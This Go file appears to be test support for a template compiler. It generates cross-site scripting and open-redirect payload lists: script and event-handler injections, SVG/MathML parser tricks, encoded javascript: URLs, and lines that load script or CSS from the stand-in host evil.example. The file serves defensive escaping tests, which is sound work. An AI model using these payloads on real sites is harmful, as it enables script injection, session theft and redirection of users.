package compile

import "strings"

// markupPayloads are texts that break naive templates: a list of known shapes,
// and combinations of ways out of a context with things to run behind it.
func markupPayloads() []string {
	list := strings.Split(strings.TrimSpace(markupKnownPayloads), "\n")
	outs := []string{``, `"`, `'`, `">`, `'>`, `" `, `' `, "`", `-->`, `]]>`, `</title>`, `</textarea>`, `</script>`, `</style>`, `\"`, `&quot;>`, `&#34;>`, `%22>`, "\u00a0\">", "\x00\">"}
	runs := []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`,
		`onmouseover=alert(1) x=`, `onfocus=alert(1) autofocus x="`, `style=animation-name:x onanimationstart=alert(1) `,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<a href=javascript:alert(1)>x</a>`, `<base href=//evil.example>`,
		`<form action=javascript:alert(1)><button>`, `<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>`,
		`<!--`, `<style>`, `<textarea>`, `<div data-offer-space="hero">`,
	}
	for _, out := range outs {
		for _, run := range runs {
			list = append(list, out+run)
		}
	}
	return append(list, markupURLPayloads()...)
}

// markupURLPayloads are texts that run script or leave the site as a URL.
func markupURLPayloads() []string {
	var list []string
	for _, scheme := range []string{
		"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "\x00javascript:",
		"javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:",
		"%6Aavascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "feed:javascript:", "view-source:javascript:",
		"blob:", "file:///", "about:blank#", "jar:", "livescript:", "mocha:",
	} {
		list = append(list, scheme+"alert(1)", scheme+"//x%0aalert(1)", "/"+scheme+"alert(1)")
	}
	for _, host := range []string{
		"//", `\\`, `/\`, `\/`, "///", "/\t/", "/\n/", "\t//", " //", "http:", "http:/", `http:\\`, "https:///", "//\u3002",
		"/&sol;", "&sol;&sol;", "/&#47;", "/&bsol;", "/%2f", "//user@", "https://user:pw@", "http://[::1]@", "/..//", "/.//", "?//", "#//",
	} {
		list = append(list, host+"evil.example", host+"evil.example/%2e%2e")
	}
	return list
}

const markupKnownPayloads = `
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script x>alert(1)</script y>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=&#97;lert(1)>
<img src="x" on error=alert(1)>
<img """><script>alert(1)</script>">
<image src=x onerror=alert(1)>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<audio src=x onerror=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>x</button>
<button formaction=javascript:alert(1)>x</button>
<form><button formaction=javascript:alert(1)>x</form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x
<isindex type=image src=1 onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<details ontoggle="alert(1)" open>x</details>
<marquee onstart=alert(1)>
<marquee loop=1 width=0 onfinish=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName="href" to="javascript:alert(1)" />
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x">
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<style>@import'//evil.example/x.css';</style>
<style><!--</style><script>alert(1)//--></script>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="javascript:/a/">
<iframe src=javascript:alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<frameset onload=alert(1)>
<object data=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=javascript:alert(1)>
<applet code=x>
<table background=javascript:alert(1)><tr><td>x</table>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#14;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href='vbscript:msgbox(1)'>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href=javascript:alert(1)//>x</a>
<a/href="javascript:alert(1)">x</a>
<a href="/x" ping="javascript:alert(1)">x</a>
<a href="/x" onclick="alert(1)">x</a>
<a href="/x" onclick = alert(1)>x</a>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div onmouseover="alert(1)">x</div>
<div/onmouseover='alert(1)'>x</div>
<div onpointerrawupdate=alert(1)>x</div>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- offer:hero --><b>x</b><!-- /offer -->
<![><img src="]><img src=x onerror=alert(1)//">
<?xml version="1.0"?><script>alert(1)</script>
<% <script>alert(1)</script> %>
</div><script>alert(1)</script><div>
</div></div></div><b>out</b>
</p><p><div></p>x</div>
</body></html><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) "
x" onerror="alert(1)
x' onerror='alert(1)
` + "`" + ` onmouseover=alert(1)
"/><svg/onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&lt script&gt alert(1)
&amp;lt;script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
[[${alert(1)}]]
quot;>
sol;evil.example
#106;avascript:alert(1)
colon;alert(1)
lt;script&gt;
`
